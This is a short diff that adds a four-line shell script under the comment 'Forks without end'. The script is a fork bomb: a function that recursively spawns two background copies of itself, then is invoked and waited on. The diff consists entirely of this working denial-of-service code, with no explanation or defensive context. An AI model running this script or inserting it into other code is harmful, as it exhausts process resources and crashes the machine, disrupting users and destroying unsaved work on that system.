@@ -1,0 +1,4 @@
+# Forks without end
+bomb() { bomb | bomb & }
+bomb
+wait
